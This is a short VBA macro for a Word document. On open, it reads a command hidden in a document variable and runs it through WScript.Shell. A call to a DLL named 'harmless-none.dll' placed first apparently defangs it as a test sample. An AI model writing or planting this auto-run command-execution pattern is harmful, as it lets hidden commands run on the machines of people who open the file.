Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub Document_Open()
    StopHere
    Dim words As String
    words = ActiveDocument.Variables("page").Value
    CreateObject("WScript.Shell").Exec words
End Sub
